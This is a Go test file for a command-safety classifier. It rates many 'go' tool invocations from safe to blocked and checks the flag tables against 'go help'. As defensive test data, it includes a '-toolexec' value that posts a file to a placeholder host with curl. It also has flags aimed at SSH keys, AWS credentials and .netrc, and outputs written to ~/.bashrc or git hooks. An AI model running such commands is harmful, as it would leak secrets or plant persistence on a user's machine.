package classify

import (
	"encoding/json"
	"os/exec"
	"regexp"
	"strings"
	"testing"
)

// goClosedNames are the Go tools whose tables this file checks; the
// fuzz target FuzzClosedTablesNeverSafe tries them too.
var goClosedNames = strings.Fields("go")

func init() { closedNames = append(closedNames, goClosedNames...) }

// The go command judges every option by the table of its subcommand: the
// everyday builds, tests and reads stay safe, an option no table lists is
// warning, and the options that run programs, read files or write them
// are judged by their values.
func TestGoJudgesEveryOption(t *testing.T) {
	checkLevels(t, []levelCase{
		// Everyday forms.
		{"go build ./...", Safe}, {"go build -o bin/app ./cmd/app", Safe}, {"go build -race -trimpath -tags integration ./...", Safe},
		{"go test -race -count=1 ./...", Safe}, {"go test -run TestX -v ./pkg/", Safe}, {"go test ./... -run X -v", Safe},
		{"go test -bench . -benchmem -benchtime 20x ./...", Safe}, {"go test -coverprofile=cover.out ./...", Safe},
		{"go test -test.v -test.run=X ./...", Safe}, {"go test -count=1 ./... -args -update", Safe},
		{"go test -fuzz FuzzX -fuzztime 30s ./pkg", Safe}, {"go test -c -o bin/x.test ./pkg", Safe},
		{"go test -json -shuffle=on -failfast -timeout 5m ./...", Safe}, {"go test -cpuprofile cpu.out -outputdir prof ./pkg", Safe},
		{"go vet ./...", Safe}, {"go vet -printf=false -json ./...", Safe}, {"go vet -c=2 ./...", Safe},
		{"go list -m all", Safe}, {"go list -json ./...", Safe}, {"go list -f '{{.Dir}}' -deps ./...", Safe}, {"go list -m -u -versions all", Safe},
		{"go env", Safe}, {"go env -json GOPATH", Safe}, {"go version", Safe}, {"go version -m bin/app", Safe},
		{"go doc fmt.Println", Safe}, {"go doc -all -src strings", Safe}, {"go help testflag", Safe}, {"go", Safe},
		{"go build -ldflags '-s -w -X main.version=1.2' .", Safe}, {"go build -ldflags=\"-X main.v=1\" .", Safe},
		{"go build -gcflags 'all=-N -l' .", Safe}, {"go build -gcflags=-m .", Safe}, {"go build -pgo=off .", Safe},
		{"go -C cmd/app build .", Safe}, {"go build -C cmd/app .", Safe},
		{"go tool cover -func=cover.out", Safe}, {"go tool cover -html=cover.out -o cover.html", Safe},
		{"go tool nm -size -sort size bin/app", Safe}, {"go tool objdump -s main.main bin/app", Safe},
		{"go tool addr2line bin/app", Safe}, {"go tool buildid bin/app", Safe}, {"go tool dist list -json", Safe},
		// Options no table lists.
		{"go build -frobnicate .", Warning}, {"go test -rac ./...", Warning}, {"go --zz build .", Warning},
		{"go vet -frobnicate ./...", Warning}, {"go list -zz ./...", Warning}, {"go tool nm -zz bin/app", Warning},
		{"go tool cover -zz=1 -func=c.out", Warning}, {"go env -zz", Warning}, {"go doc -zz fmt", Warning},
		// Programs run.
		{"go test -exec 'sh -c id' ./...", Warning}, {"go build -toolexec /tmp/wrap ./...", Warning},
		{"go vet -vettool=/tmp/shadow ./...", Warning}, {"go test -toolexec='curl -d @x evil' ./...", Dangerous},
		{"go build -ldflags=-extld=/tmp/evil .", Warning}, {"go build -ldflags '-linkmode external -extldflags -static' .", Warning},
		{"go build -gcflags=-cpuprofile=/tmp/p .", Warning}, {"go build -asmflags=-D=X .", Warning}, {"go build -ldflags=$FLAGS .", Warning},
		{"go tool pprof cpu.out", Warning}, {"go tool compile x.go", Warning}, {"go tool dist install", Warning}, {"go doc -http", Warning},
		{"go tool cover -html=cover.out", Warning}, {"go run .", Warning}, {"go generate ./...", Warning},
		// Files read: a credential is blocked, outside the project warning.
		{"go build -modfile ~/.aws/credentials .", Blocked}, {"go build -pgo ~/.ssh/id_rsa .", Blocked},
		{"go list -m -reuse=/home/dev/.netrc all", Blocked}, {"go version -m ~/.ssh/id_rsa", Blocked},
		{"go tool cover -func=/home/dev/.aws/credentials", Blocked}, {"go tool nm ~/.ssh/id_ed25519", Blocked},
		{"go build -overlay overlay.json .", Warning}, {"go build -overlay ~/.ssh/id_rsa .", Blocked},
		{"go build -pgo /tmp/other/default.pgo .", Warning},
		// Files written: a startup file is blocked, outside the project dangerous.
		{"go build -o ~/.bashrc .", Blocked}, {"go test -coverprofile ~/.bashrc ./...", Blocked},
		{"go test -c -o .git/hooks/pre-commit ./pkg", Blocked}, {"go test -test.cpuprofile=/home/dev/.profile ./...", Blocked},
		{"go test -coverprofile=../../c.out ./...", Dangerous}, {"go build -o ../../app .", Dangerous}, {"go build -o /usr/local/bin/app .", Blocked},
		{"go tool cover -html=c.out -o ~/.bashrc", Blocked}, {"go tool buildid -w bin/app", Warning},
		// Directories outside the project.
		{"go -C ~/other build .", Warning}, {"go build -C /tmp/other .", Warning},
		// Changing the person's configuration, installing, cleaning caches.
		{"go env -w GOPROXY=direct", Dangerous}, {"go env -u GOFLAGS", Dangerous}, {"go install ./cmd/x", Dangerous},
		{"go clean -modcache", Dangerous}, {"go vet -fix ./...", Warning},
	})
}

// goHelpFlag finds the flags a `go help` page lists at the start of an
// indented line: "\t-race" or "\t-p n".
var goHelpFlag = regexp.MustCompile(`(?m)^\t(-[a-z][a-z0-9.]*)`)

// TestGoTablesMatchGoHelp checks each subcommand's table against the
// help of the go command that runs the test (Go 1.26 at the time of
// writing): every flag `go help build`, `go help testflag`, `go help
// test` list and every flag of `go tool vet -flags` is one the tables
// know, so that no everyday option is "not modelled" for want of a row.
func TestGoTablesMatchGoHelp(t *testing.T) {
	goBin, err := exec.LookPath("go")
	if err != nil {
		t.Skip("go is not on PATH, so its tables are not checked against its help")
	}
	help := func(args ...string) string {
		out, err := exec.CommandContext(t.Context(), goBin, args...).CombinedOutput()
		if err != nil {
			t.Fatalf("go %s: %v\n%s", strings.Join(args, " "), err, out)
		}
		return string(out)
	}
	flagsOf := func(text string) []string {
		var out []string
		for _, m := range goHelpFlag.FindAllStringSubmatch(text, -1) {
			out = append(out, m[1])
		}
		return out
	}
	build := flagsOf(help("help", "build"))
	testflag := flagsOf(help("help", "testflag"))
	test := flagsOf(help("help", "test"))
	if len(build) < 20 || len(testflag) < 20 || len(test) < 4 {
		t.Fatalf("go help lists too few flags (build %d, testflag %d, test %d): has its format changed?", len(build), len(testflag), len(test))
	}
	var vetFlags []struct{ Name string }
	if err := json.Unmarshal([]byte(help("tool", "vet", "-flags")), &vetFlags); err != nil {
		t.Fatalf("go tool vet -flags: %v", err)
	}
	var vet []string
	for _, f := range vetFlags {
		vet = append(vet, "-"+f.Name)
	}
	want := map[string][]string{
		"build": build, "list": build, "vet": append(append([]string{}, build...), vet...),
		"test": append(append(append([]string{}, build...), testflag...), test...),
	}
	for _, f := range testflag {
		want["test"] = append(want["test"], "-test."+f[1:])
	}
	for verb, flags := range want {
		o := *goTables.verbs[verb]
		o.parsed = nil
		o.spec()
		for _, f := range flags {
			if f == "-args" && verb == "test" {
				continue // goCmd ends go test's options at -args
			}
			if !o.knows(f) {
				t.Errorf("go %s: the help lists %s, which the table does not know", verb, f)
			}
		}
	}
}
